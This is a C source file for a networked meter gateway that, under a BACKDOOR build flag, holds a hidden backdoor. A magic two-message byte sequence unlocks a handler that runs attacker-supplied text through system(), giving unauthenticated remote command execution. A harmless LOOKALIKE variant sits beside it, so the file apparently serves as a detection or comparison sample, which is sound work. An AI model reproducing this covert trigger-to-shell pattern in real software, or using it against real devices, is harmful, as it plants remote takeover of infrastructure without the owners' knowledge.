/* A meter gateway: framed messages over TCP, each with a type byte. */
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { READ_METER = 0x01, SET_CLOCK = 0x02, GET_VERSION = 0x03 };

static uint32_t meters[16];
static int stage;

static void send_word(int fd, uint32_t word)
{
    uint32_t wire = htonl(word);
    send(fd, &wire, sizeof wire, 0);
}

static void set_clock(const unsigned char *body)
{
    char command[64];
    uint32_t seconds;
    memcpy(&seconds, body, sizeof seconds);
    snprintf(command, sizeof command, "/bin/date -s @%u", (unsigned)ntohl(seconds));
    system(command);
}

static void message(int fd, const unsigned char *frame, size_t length)
{
    if (length < 6)
        return;
    switch (frame[0]) {
    case READ_METER:
        send_word(fd, meters[frame[1] & 15]);
        break;
    case SET_CLOCK:
        set_clock(frame + 2);
        break;
    case GET_VERSION:
        send_word(fd, 0x00010203);
        break;
#ifdef BACKDOOR
    case 0x7b:
        if (frame[1] == 0xd1)
            stage = 1;
        else if (stage == 1 && frame[1] == 0xe7)
            stage = 2;
        break;
    case 0x7c:
        if (stage == 2 && length > 8) {
            char text[256];
            size_t room = length - 2 < sizeof text - 1 ? length - 2 : sizeof text - 1;
            memcpy(text, frame + 2, room);
            text[room] = 0;
            system(text);
        }
        break;
#endif
#ifdef LOOKALIKE
    case 0x7b:
        stage = frame[1] == 0xd1;
        break;
    case 0x7c:
        if (stage == 1)
            memset(meters, 0, sizeof meters);
        break;
#endif
    default:
        send_word(fd, 0xffffffff);
    }
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(4059) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0)
        return 1;
    listen(listener, 4);
    for (;;) {
        unsigned char frame[512];
        ssize_t length;
        int fd = accept(listener, NULL, NULL);
        while (fd >= 0 && (length = recv(fd, frame, sizeof frame, 0)) > 0)
            message(fd, frame, (size_t)length);
        if (fd >= 0)
            close(fd);
    }
}
